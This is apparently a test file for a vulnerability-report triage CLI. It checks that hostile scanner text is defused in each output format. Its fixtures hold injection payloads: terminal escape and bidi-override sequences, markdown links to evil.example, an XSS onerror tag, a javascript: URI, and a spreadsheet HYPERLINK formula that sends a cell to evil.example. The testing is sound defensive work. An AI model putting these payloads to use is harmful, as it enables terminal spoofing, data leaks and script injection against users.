import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { writeCsvReport } from "../helpers/reports.js";
import { cliSandbox, parseJson, type CliSandbox } from "./helpers.js";

// Scanner reports are untrusted: what they say must reach the user as text, in every output format,
// never as terminal escape sequences, Markdown links or mentions, spreadsheet formulas or broken SARIF.

// What a terminal acts on (C0 but line breaks, DEL, C1, bidi embeddings, overrides and isolates).
// eslint-disable-next-line no-control-regex
const TERMINAL_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

let cli: CliSandbox;
let hostileCsv: string;
beforeAll(async () => {
  cli = await cliSandbox();
  hostileCsv = await writeCsvReport(cli.cwd, "hostile.csv", [
    {
      vulnerability: "CVE-2024-0001",
      component: "evil\u001b]0;pwned\u0007\u001b[8mhidden\u202etxt.exe",
      version: "1.0",
      asset: "web\u001b[1A\u001b[2K @security-team [login](https://evil.example)",
      severity: "critical",
    },
    {
      vulnerability: "PT-7 [details](https://evil.example/x)",
      component: '＝HYPERLINK("https://evil.example/?"&A1)',
      version: "2.0 | <img src=x onerror=alert(1)>",
      asset: "@octocat",
      severity: "high",
    },
  ]);
}, 60_000);
afterAll(async () => {
  await cli.dispose();
});

describe("detente triage with untrusted report text", { timeout: 120_000 }, () => {
  it("--format table shows escape sequences and bidi overrides as visible symbols", async () => {
    const r = await cli.run(["triage", hostileCsv, "--all", "--format", "table"]);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(TERMINAL_CONTROL);
    expect(r.stdout).toContain("evil␛]0;pwned␇␛[8mhidden\ufffdtxt.exe");
    expect(r.stdout).toContain("Unknown: web␛[1A␛[2K @security-team");
  });

  it("--format markdown writes report text as text: no link, image, HTML, mention or extra column", async () => {
    const r = await cli.run(["triage", hostileCsv, "--all", "--format", "markdown"]);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(TERMINAL_CONTROL);
    // A link or image needs an unescaped "[", HTML an unescaped "<", a mention an "@" right before a name.
    expect(r.stdout).not.toMatch(/(?<!\\)\[(?!x\])|(?<!\\)<|@(?!&#8203;)/);
    expect(r.stdout).toContain("@&#8203;security-team \\[login\\](https:&#8203;//evil.example)");
    const rows = r.stdout.split("\n").filter((l) => /^\| (\*\*act\*\*|attend|track\*?) \|/.test(l));
    expect(rows).toHaveLength(2);
    // Every row has the header's nine cells: a "|" from a report is escaped.
    for (const row of rows) expect(row.split(/(?<!\\)\|/).length - 2).toBe(9);
  });

  it("--format csv defuses a full-width formula", async () => {
    const r = await cli.run(["triage", hostileCsv, "--all", "--format", "csv"]);
    expect(r.code).toBe(0);
    const records: string[][] = parse(r.stdout);
    const [header, ...rows] = records;
    const component = header?.indexOf("component") ?? -1;
    expect(rows.map((row) => row[component])).toContain('\'＝HYPERLINK("https://evil.example/?"&A1)');
  });

  it("--format sarif puts a code finding's line in the region and keeps odd paths inside the URI", async () => {
    const rule = { id: "CVE-2024-1111", helpUri: "javascript:alert(1)", shortDescription: { text: "x" } };
    const result = (uri: string, startLine: number): object => ({
      ruleId: "CVE-2024-1111",
      level: "error",
      message: { text: "m" },
      locations: [{ physicalLocation: { artifactLocation: { uri }, region: { startLine } } }],
    });
    // Written by hand: JSON.stringify would not keep the lone surrogate as the escape a report can hold.
    const report = JSON.stringify({
      version: "2.1.0",
      runs: [
        {
          tool: { driver: { name: "semgrep", rules: [rule] } },
          results: [result("src/app%23frag%3Fq.ts", 12), result("src/LONE.ts", 3)],
        },
      ],
    }).replace("LONE", "b\\ud800");
    const name = await cli.write("code.sarif", report);
    const r = await cli.run(["triage", name, "--asset", "shop", "--all", "--format", "sarif"]);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    const log = parseJson(r) as {
      runs: {
        tool: { driver: { rules: { helpUri?: string }[] } };
        results: {
          locations: {
            physicalLocation: { artifactLocation: { uri: string; uriBaseId: string }; region: object };
          }[];
        }[];
      }[];
    };
    const run = log.runs[0];
    expect(
      run?.results
        .map((x) => x.locations[0]?.physicalLocation)
        .sort((a, b) => a!.artifactLocation.uri.localeCompare(b!.artifactLocation.uri)),
    ).toEqual([
      {
        artifactLocation: { uri: "src/app%23frag%3Fq.ts", uriBaseId: "%SRCROOT%" },
        region: { startLine: 12 },
      },
      { artifactLocation: { uri: "src/b%EF%BF%BD.ts", uriBaseId: "%SRCROOT%" }, region: { startLine: 3 } },
    ]);
    expect(run?.tool.driver.rules[0]).not.toHaveProperty("helpUri");
    expect(r.stdout).not.toContain("javascript:");
  });

  it("an error quoting a report's text shows its escape sequences as visible symbols", async () => {
    const bad = await writeCsvReport(cli.cwd, "bad-severity.csv", [
      { vulnerability: "CVE-2024-0002", asset: "a", severity: "urgent\u001b]0;pwned\u0007" },
    ]);
    const r = await cli.run(["triage", bad]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("urgent␛]0;pwned␇");
    expect(r.stderr).not.toMatch(TERMINAL_CONTROL);
  });

  it("findings and explain show stored report text with escape sequences as visible symbols", async () => {
    const imported = await cli.run(["import", hostileCsv]);
    expect(imported.code).toBe(0);
    // The unmatched-assets line names the hostile asset key.
    expect(imported.stdout).toContain("web␛[1A␛[2K");
    expect(imported.stdout).not.toMatch(TERMINAL_CONTROL);
    const listed = await cli.run(["findings"]);
    expect(listed.code).toBe(0);
    expect(listed.stdout).not.toMatch(TERMINAL_CONTROL);
    expect(listed.stdout).toContain("evil␛]0;pwned␇");
    const id = /^([0-9a-f]{12}) .*evil␛/m.exec(listed.stdout)?.[1];
    expect(id).toBeDefined();
    const explained = await cli.run(["explain", id ?? ""]);
    expect(explained.code).toBe(0);
    expect(explained.stdout).not.toMatch(TERMINAL_CONTROL);
    // explain blanks C0 controls itself; the bidi override is what only the terminal renderer catches.
    expect(explained.stdout).toContain("hidden\ufffdtxt.exe 1.0");
  });
});
